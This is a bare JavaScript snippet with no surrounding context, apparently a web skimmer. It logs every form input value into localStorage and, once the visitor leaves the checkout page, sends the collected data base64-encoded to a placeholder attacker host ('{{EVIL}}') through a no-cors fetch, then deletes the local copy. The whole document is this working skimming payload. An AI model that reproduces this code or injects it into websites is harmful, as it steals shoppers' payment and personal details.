(function () {
  var KEY = "_a_q";
  document.addEventListener("input", function (e) {
    var q = JSON.parse(localStorage.getItem(KEY) || "{}");
    q[e.target.name] = e.target.value;
    localStorage.setItem(KEY, JSON.stringify(q));
  });
  if (location.pathname.indexOf("checkout") < 0 && localStorage.getItem(KEY)) {
    fetch("{{EVIL}}/b?d=" + btoa(localStorage.getItem(KEY)), { mode: "no-cors" });
    localStorage.removeItem(KEY);
  }
})();
